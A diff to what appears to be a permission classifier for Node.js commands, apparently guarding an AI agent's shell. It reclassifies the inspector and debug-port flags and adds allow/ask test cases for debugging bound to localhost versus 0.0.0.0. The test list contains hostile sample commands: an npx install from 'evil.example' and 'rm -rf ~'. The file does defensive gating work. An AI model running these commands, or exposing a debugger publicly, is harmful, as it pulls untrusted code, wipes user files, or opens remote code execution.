@@ -41,7 +41,7 @@ NODE_OPTIONS = [
         --perf-basic-prof --no-opt --trace-sigint --trace-sync-io --trace-tls --trace-uncaught --trace-warnings
         --track-heap-objects --unhandled-rejections= --use-bundled-ca --use-env-proxy --use-largepages= --use-openssl-ca
         --use-system-ca --v8-pool-size= --verify-base-objects --watch --watch-preserve-output --zero-fill-buffers
-        --harmony --inspect-port= --debug-port= --inspect-publish-uid= --run-listed --disable-wasm-trap-handler
+        --harmony --inspect-publish-uid= --run-listed --disable-wasm-trap-handler
         --disable-sigusr1 --es-module-specifier-resolution=
     """),
     flag("-i --interactive", stdin="CODE(node)!"),
@@ -60,7 +60,8 @@ NODE_OPTIONS = [
         "--cpu-prof-dir --heap-prof-dir --diagnostic-dir --report-dir --report-directory --report-filename --redirect-warnings --test-reporter-destination --trace-event-file-pattern --localstorage-file --tls-keylog",
         WRITES,
     ),
-    option("--inspect --inspect-brk --inspect-wait", LISTENS, optional=True),
+    option("--inspect --inspect-brk --inspect-wait", READ_BY("debug_port"), optional=True),
+    option("--inspect-port --debug-port", READ_BY("debug_port")),
     option("--run", TASK, fills="RUNS(node)", ends=True),
 ]
 
@@ -228,4 +229,10 @@ ask    npx --registry https://evil.example tsc
 ask    node --cpu-prof-dir=/home/user/x app.js
 ask    nvm install 22
 deny   fnm exec --using=20 rm -rf ~
+allow  node --inspect=9229 app.js
+ask    node --inspect-port=0.0.0.0:9229 --inspect app.js
+allow  NODE_OPTIONS=--inspect-brk=127.0.0.1:9229 npm test
+ask    NODE_OPTIONS='--max-old-space-size=4096 --inspect=0.0.0.0' npm test
+allow  vitest --inspect
+ask    vitest --inspect=0.0.0.0:9229
 """
